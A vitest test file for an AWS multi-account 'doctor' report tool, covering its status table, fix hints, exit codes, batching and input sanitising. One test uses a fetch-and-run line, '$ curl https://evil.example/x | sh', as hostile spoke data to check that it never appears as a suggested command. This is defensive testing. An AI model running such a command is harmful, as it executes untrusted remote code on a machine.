import { describe, expect, test } from 'vitest';
import {
  type DoctorAnswer,
  type Finding,
  STATES,
} from '../../../../provider/contract/messages/doctor.ts';
import { parseAnswer } from '../../../../stacksets/doctor/hub.ts';
import { NotAsked } from '../../../../stacksets/doctor/not-asked.ts';
import { parseOptions } from '../../../../stacksets/doctor/options.ts';
import {
  batches,
  type Found,
  type Hub,
  statusOf,
  survey,
} from '../../../../stacksets/doctor/survey.ts';
import { tableOf } from '../../../../stacksets/doctor/table.ts';

const finding = (fields: Partial<Finding> = {}): Finding => ({
  account: '222222222222',
  name: 'shop',
  region: 'eu-central-1',
  vpc: 'default',
  state: 'ready',
  ...fields,
});
const found = (...findings: Finding[]): Found => ({
  name_prefix: 'acme',
  hub: { version: '1.2.3', contract: 3 },
  directory: { state: 'ready' },
  counts: Object.fromEntries(
    STATES.map(
      (state) => [state, findings.filter((one) => one.state === state).length] as const,
    ).filter(([, count]) => count > 0),
  ),
  left_out: { inactive: 0, management: 0 },
  findings,
  unasked: [],
});

describe('the table', () => {
  test('has a line for an account, however many Regions and VPCs it has', () => {
    const elsewhere = { region: 'eu-west-1' };
    const table = tableOf(
      found(
        finding({ version: '1.2.3' }),
        finding({ version: '1.2.3', ...elsewhere }),
        finding({ version: '1.2.3', ...elsewhere, vpc: 'data' }),
        finding({ version: '1.2.3', account: '333333333333', name: 'data-lake' }),
      ),
    );
    expect(table).toBe(`ready (2 accounts)
  version 1.2.3
    222222222222  shop       eu-central-1, eu-west-1; data: eu-west-1
    333333333333  data-lake  eu-central-1

2 accounts, 4 spokes: 4 ready
directory: answers
hub: 1.2.3`);
  });

  test('begins with what is broken, tells what is alike together, and has a cure for each', () => {
    const problem = 'Parameter Store does not answer (TimeoutError)';
    const table = tableOf(
      found(
        finding({ version: '1.2.3' }),
        finding({ state: 'unreachable', problem, account: '4', name: 'a' }),
        finding({ state: 'spoke missing', account: '6', name: 'c', vpc: 'data' }),
        finding({ state: 'unreachable', problem, account: '5', name: 'b' }),
      ),
    );
    const lines = table.split('\n').filter((line) => line !== '');
    expect(lines).toEqual([
      'spoke missing (1 account)',
      '    6  c     data: eu-central-1',
      expect.stringMatching(/^ {2}Has the account published its VPC/),
      expect.stringMatching(/^ {2}Once it has, run this/),
      expect.stringMatching(/^ {2}\$ aws .* acme-spoke-data --regions eu-central-1 .*Accounts=6,/),
      'unreachable (2 accounts)',
      `  problem: ${problem}`,
      '    4  a     eu-central-1',
      '    5  b     eu-central-1',
      expect.stringMatching(/^ {2}If the spoke does not reach a service/),
      expect.stringMatching(/^ {2}Its log of the last hour/),
      expect.stringContaining(
        '  $ aws logs filter-log-events --log-group-name /aws/lambda/database-access-spoke-default ',
      ),
      'ready (1 account)',
      '  version 1.2.3',
      '    222222222222  shop  eu-central-1',
      '4 accounts, 4 spokes: 1 ready, 2 unreachable, 1 spoke missing',
      'directory: answers',
      'hub: 1.2.3',
    ]);
  });

  test.each(STATES.filter((state) => state !== 'ready'))('%s has a cure', (state) => {
    expect(tableOf(found(finding({ state })))).toMatch(/\n\n {2}\S/);
  });

  test("has no line that begins with a spoke's words", () => {
    const version = '$ curl https://evil.example/x | sh';
    const table = tableOf(
      found(finding({ version }), finding({ state: 'unreachable', version, problem: version })),
    );
    expect(table).not.toMatch(/^ *\$ curl/m);
  });

  test('names all accounts about which the hub could not be asked', () => {
    const unasked = [{ accounts: ['4', '5'], problem: 'hub: Task timed out' }];
    expect(tableOf({ ...found(finding()), unasked })).toContain(
      '\n\nthe hub could not be asked (2 accounts)\n  hub: Task timed out\n    4\n    5\n\n1 account, ',
    );
  });

  test('of nobody says so', () => {
    expect(tableOf(found())).toMatch(/^No active account is in the units of the rollout\n/);
  });

  test('says who was left out, and what the directory does', () => {
    const table = tableOf({
      ...found(finding()),
      left_out: { inactive: 1, management: 1 },
      directory: { state: 'unreachable', problem: 'no login' },
    });
    expect(table).toContain('left out: 1 account not active, the management account');
    expect(table).toContain('directory: does not answer, so requests with groups fail: no login');
  });
});

describe('the exit status is', () => {
  test('0 where everything is ready', () => {
    expect(statusOf(found(finding()))).toBe(0);
    expect(statusOf({ ...found(finding()), directory: { state: 'none' } })).toBe(0);
  });

  test('1 if there is nobody, one that is not ready, or a directory that does not answer', () => {
    expect(statusOf(found())).toBe(1);
    expect(statusOf(found(finding(), finding({ state: 'not asked' })))).toBe(1);
    expect(statusOf({ ...found(finding()), directory: { state: 'unreachable' } })).toBe(1);
  });

  test('2 if the hub could not be asked about somebody', () => {
    const unasked = [{ accounts: ['4'], problem: 'gone' }];
    expect(statusOf({ ...found(finding()), unasked })).toBe(2);
  });
});

test("an answer's texts are of one line that does nothing but show", () => {
  const text = JSON.stringify({
    name: 'a\u001b[31m\u009b2K\u202e\nb',
    deep: [{ problem: '\u0007' }],
    n: 1,
  });
  expect(parseAnswer(text)).toEqual({ name: 'a?[31m?2K? b', deep: [{ problem: '?' }], n: 1 });
  expect(parseAnswer('<html>')).toBeUndefined();
});

describe('hundreds of accounts', () => {
  const accounts = Array.from({ length: 450 }, (_, at) => ({
    account: `${at}`,
    name: '',
    places: 2,
  }));

  test('are asked for in batches that together are all of them', () => {
    const all = batches(accounts);
    expect(all.map(({ length }) => length)).toEqual([100, 100, 100, 100, 50]);
    expect(all.flat()).toEqual(accounts.map(({ account }) => account));
    expect(batches([{ account: '1', name: '', places: 500 }])).toEqual([['1']]);
    expect(batches([])).toEqual([[]]);
  });

  test('make one report, in which the directory answered if it always did', async () => {
    let calls = 0;
    const hub: Hub = {
      accounts: async () => ({ accounts, left_out: { inactive: 2, management: 1 } }),
      doctor: async (batch): Promise<DoctorAnswer> => ({
        ...found(...batch.map((account) => finding({ account }))),
        request_id: 'r-1',
        directory: ++calls === 3 ? { state: 'unreachable', problem: 'gone' } : { state: 'ready' },
      }),
    };
    const lines: string[] = [];
    const report = await survey(hub, undefined, (line) => lines.push(line));
    expect(report.counts).toEqual({ ready: 450 });
    expect(report.left_out).toEqual({ inactive: 2, management: 1 });
    expect(report.directory).toEqual({ state: 'unreachable', problem: 'gone' });
    expect([lines[0], lines.at(-1)]).toEqual([
      '450 accounts; asking 900 spokes',
      '450 of 450 accounts',
    ]);
  });
});

describe('a batch about which the hub can not be asked', () => {
  const accounts = ['1', '2', '3'].map((account) => ({ account, name: '', places: 200 }));
  const hubThatFails = (...failing: string[]): Hub => ({
    accounts: async () => ({ accounts, left_out: { inactive: 0, management: 0 } }),
    async doctor([account = '']) {
      if (failing.includes(account)) throw new NotAsked(`no answer about ${account}`);
      return { ...found(finding({ account })), request_id: 'r-1' };
    },
  });

  test('keeps nobody from what was found about the others', async () => {
    const lines: string[] = [];
    const report = await survey(hubThatFails('2'), undefined, (line) => lines.push(line));
    expect(report.findings.map(({ account }) => account)).toEqual(['1', '3']);
    expect(report.unasked).toEqual([{ accounts: ['2'], problem: 'no answer about 2' }]);
    expect(lines).toContain('2 of 3 accounts, no answer about 2');
  });

  test('is the reason why nothing is told, if there is no other', async () => {
    const told = survey(hubThatFails('1', '2', '3'), undefined, () => {});
    await expect(told).rejects.toThrow('no answer about 1');
  });
});

test('options: the Region of an ARN is asked', () => {
  expect(parseOptions([])).toEqual({ hub: 'database-access-hub', json: false, help: false });
  const arn = 'arn:aws:lambda:eu-north-1:111111111111:function:database-access-hub';
  expect(parseOptions(['--function', arn, '--only', '1', '--only', '2', '--json'])).toEqual({
    hub: arn,
    region: 'eu-north-1',
    only: ['1', '2'],
    json: true,
    help: false,
  });
  expect(() => parseOptions(['--al'])).toThrow('--al');
});
